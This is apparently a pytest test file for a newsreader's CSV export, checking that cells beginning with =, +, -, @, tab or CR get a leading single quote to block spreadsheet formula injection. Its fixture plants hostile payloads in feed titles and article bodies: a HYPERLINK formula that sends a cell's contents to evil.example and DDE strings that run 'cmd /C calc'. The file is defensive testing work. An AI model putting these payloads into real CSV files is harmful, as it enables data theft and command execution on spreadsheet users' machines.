"""CSV formula injection (issue 14, case 3): ``tariffs --format csv`` wrote cells starting with
``=``, ``+``, ``-`` or ``@`` (evidence, article title, source) verbatim, and a spreadsheet runs
them. Every CSV newsreader writes goes through one writer that neutralises such cells the way
OWASP recommends: a single quote before a cell that starts with = + - @ tab or CR."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tui.cli import run
from tui.core.csv_out import TRIGGERS, neutralise, write_csv
from tui.core.models import ParsedArticle
from tui.paths import resolve
from tui.store.repository import Repository

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_cache(home: Path) -> None:
    paths = resolve()
    paths.ensure()
    repo = Repository(paths.database)
    try:
        for n, formula in enumerate(FORMULAS):
            feed = repo.add_feed(f"https://f{n}.example/feed", title=formula)
            body = (
                f"<p>{formula} The United States imposed a 25% tariff on steel from Mexico on"
                " Monday, the White House said.</p>"
            )
            repo.store_articles(
                feed.id, [ParsedArticle(guid=f"g{n}", title=formula, content_html=body)]
            )
        repo.set_state("initialised", "1")
    finally:
        repo.close()


def test_tariffs_csv_neutralises_every_formula_cell(
    hostile_cache: None, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(["tariffs", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("published,") and out.split("\n", 1)[0].endswith("\r")  # RFC 4180
    assert out.endswith("\r\n")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) >= len(FORMULAS)
    for row in rows:
        for name, cell in row.items():
            assert not cell.startswith(TRIGGERS), (name, cell)
    titles = {row["article_title"] for row in rows}
    sources = {row["source"] for row in rows}
    # The text is kept, behind the quote (clean_text took the tab and CR of the last two).
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"click")' in titles
    assert "'+cmd|' /C calc'!A0" in sources
    assert any(row["evidence"].startswith("'-2+3+cmd") for row in rows)


@given(
    st.lists(st.one_of(st.text(), st.integers(), st.floats(), st.none()), min_size=1, max_size=6)
)
def test_no_written_cell_starts_a_formula(values: list[object]) -> None:
    fields = [f"c{i}" for i in range(len(values))]
    out = io.StringIO(newline="")
    write_csv(out, fields, [dict(zip(fields, values, strict=True))])
    reader = csv.DictReader(io.StringIO(out.getvalue(), newline=""), fieldnames=fields)
    (row,) = list(reader)[1:]
    for field, value in zip(fields, values, strict=True):
        cell = row[field]
        if isinstance(value, str):
            assert not cell.startswith(TRIGGERS)
            assert cell in (value, "'" + value)
        elif value is None:
            assert cell == ""
        else:
            assert cell == str(value)  # numbers are data, never a formula: kept as they are


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Mexico") == "Mexico"
    assert neutralise("") == ""
    assert neutralise("=1") == "'=1"
    assert neutralise(-5) == -5
